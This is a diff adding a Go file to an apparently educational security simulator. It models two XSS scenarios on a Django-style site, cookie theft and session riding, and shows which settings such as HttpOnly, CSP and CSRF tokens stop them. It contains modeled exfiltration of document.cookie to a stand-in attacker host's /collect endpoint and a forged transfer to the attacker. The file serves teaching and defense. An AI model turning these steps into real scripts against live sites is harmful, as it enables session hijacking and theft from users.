@@ -1,0 +1,157 @@
+package sim
+
+import (
+	"strings"
+	"time"
+)
+
+var xssCookieTheft = &Scenario{
+	ID:    "xss-cookie-theft",
+	Title: "XSS steals the session cookie",
+	Story: "The attacker's comment on the site carries a script. When the victim opens the page, the script reads " +
+		"document.cookie and sends it to the attacker, who replays the cookie from their own machine.",
+	Lanes:     []Lane{{ActorVictim, "Victim's browser"}, {ActorServer, SiteHost}, {ActorAttacker, "Attacker (" + AttackerHost + ")"}},
+	Variables: []string{"session cookie", "document.cookie", "attacker holds", "attacker is"},
+	Toggles:   []string{"SESSION_COOKIE_HTTPONLY", "SECURE_CSP", "SESSION_COOKIE_NAME"},
+	script:    xssCookieTheftScript,
+}
+
+var xssSessionRiding = &Scenario{
+	ID:    "xss-session-riding",
+	Title: "XSS rides the session",
+	Story: "The injected script does not steal the cookie: it sends requests from the victim's own page, which carry " +
+		"the victim's cookies and can read the CSRF token. HttpOnly, SameSite and CSRF tokens do not help.",
+	Lanes:     []Lane{{ActorVictim, "Victim's browser (injected script)"}, {ActorServer, SiteHost}},
+	Variables: []string{"session cookie", "CSRF token read", "transfer"},
+	Toggles:   []string{"SECURE_CSP", "SESSION_COOKIE_HTTPONLY", "SESSION_COOKIE_SAMESITE", "csrf_middleware"},
+	script:    xssSessionRidingScript,
+}
+
+// openInjectedPage logs the victim in and opens the page that carries the
+// attacker's script; it reports whether the script runs.
+func (w *World) openInjectedPage() bool {
+	if !w.logIn(ActorVictim) {
+		w.loginRefused()
+		return false
+	}
+	w.wait(time.Minute)
+	w.follow(ActorVictim, "/account/", "opens a page that shows the attacker's comment, script included")
+	runs, check := w.victim.scriptRuns()
+	if !runs {
+		w.note(ActorVictim, "the injected script is blocked", "nothing runs", &check)
+		w.decide(Blocked, "The injected script never runs: the Content-Security-Policy forbids inline script",
+			check.Rule, check.Source)
+		return false
+	}
+	w.note(ActorVictim, "the injected script starts", "runs with the page's origin", &check)
+	return true
+}
+
+func xssCookieTheftScript(w *World) {
+	if !w.openInjectedPage() {
+		return
+	}
+	doc := w.siteURL("/account/")
+	visible := w.victim.jar.DocumentCookie(doc, w.time())
+	stolen := cookieValue(visible, w.cfg.SessionCookieName)
+	w.track("document.cookie", quoteOrEmpty(visible))
+
+	var check *Check
+	if stolen == "" && w.victimSessionCookie() != "" {
+		check = &Check{Rule: "the session cookie is HttpOnly, so document.cookie leaves it out", Source: "RFC 6265bis §5.8.3 (non-HTTP API excludes http-only cookies)", Passed: false}
+	} else if stolen != "" {
+		check = &Check{Rule: "the session cookie is not HttpOnly, so document.cookie includes it", Source: "RFC 6265bis §5.8.3", Passed: true}
+	}
+	w.note(ActorVictim, "the script reads document.cookie", quoteOrEmpty(visible), check)
+
+	exfil := URL{Scheme: "https", Host: AttackerHost, Path: "/collect", Query: "c=" + visible}
+	w.victim.do(nav{method: "GET", url: exfil, initiator: doc.Origin(), action: "the script sends what it read to the attacker", actor: ActorVictim})
+	if stolen == "" {
+		w.decide(Blocked, "HttpOnly keeps the session cookie out of document.cookie; the script gets nothing to steal",
+			check.Rule, check.Source)
+		return
+	}
+	w.stolenCookie = stolen
+	w.track("attacker holds", short(stolen))
+
+	w.wait(time.Minute)
+	user := w.replay(stolen, "replays the stolen cookie from the attacker's machine")
+	w.track("attacker is", userOrAnonymous(user))
+	if user == victimName {
+		w.decide(Succeeded, "document.cookie exposes the session cookie (SESSION_COOKIE_HTTPONLY = False); the attacker replays it",
+			"a cookie without HttpOnly is visible to scripts", "RFC 6265bis §5.8.3; Django settings SESSION_COOKIE_HTTPONLY")
+		return
+	}
+	w.decide(Blocked, "The stolen cookie no longer opens a session when the attacker replays it",
+		"the server does not honour the replayed key", "django/contrib/sessions/backends/base.py SessionBase.load")
+}
+
+func xssSessionRidingScript(w *World) {
+	if !w.openInjectedPage() {
+		return
+	}
+	origin := w.siteURL("/").Origin()
+	form := w.victim.do(nav{method: "GET", url: w.siteURL("/login/"), initiator: origin, referrer: origin + "/account/",
+		action: "the script fetches a page with a form and reads its CSRF token", actor: ActorVictim})
+	w.track("CSRF token read", quoteOrEmpty(short(form.CSRFToken)))
+	resp := w.victim.do(nav{method: "POST", url: w.siteURL("/transfer/"), initiator: origin, referrer: origin + "/account/",
+		form:   map[string]string{"to": attackerName, "amount": "1000", "csrfmiddlewaretoken": form.CSRFToken},
+		action: "the script posts a transfer to the attacker with the victim's cookies", actor: ActorVictim})
+	w.track("transfer", didOrNothing(resp))
+	if resp.Did != "" {
+		w.decide(Succeeded, "The script acts inside the victim's page: same-origin requests carry the session cookie and the CSRF token",
+			"cookies and tokens authenticate the page, not the code running in it", "RFC 6265bis §8.1 (cookies are ambient authority); Django docs, CSRF limitations")
+		return
+	}
+	w.decide(Blocked, "The site refused the script's transfer: "+refusal(resp), firstFailed(resp.Checks, "the transfer view refused the request"), checkSource(resp.Checks))
+}
+
+func quoteOrEmpty(s string) string {
+	if s == "" {
+		return `""`
+	}
+	return `"` + s + `"`
+}
+
+func userOrAnonymous(u string) string {
+	if u == "" {
+		return "anonymous"
+	}
+	return u
+}
+
+func didOrNothing(r Response) string {
+	if r.Did == "" {
+		return "refused (" + strings.TrimSpace(statusText(r)) + ")"
+	}
+	return r.Did
+}
+
+// firstFailed names the first check that failed, or fallback.
+func firstFailed(cs []Check, fallback string) string {
+	for _, c := range cs {
+		if !c.Passed {
+			return c.Rule
+		}
+	}
+	return fallback
+}
+
+// refusal says which of the server's checks failed, or the status.
+func refusal(r Response) string {
+	for _, c := range r.Checks {
+		if !c.Passed {
+			return "the check \"" + c.Rule + "\" failed"
+		}
+	}
+	return statusText(r)
+}
+
+func checkSource(cs []Check) Source {
+	for _, c := range cs {
+		if !c.Passed {
+			return c.Source
+		}
+	}
+	return "django/contrib/auth/decorators.py login_required"
+}
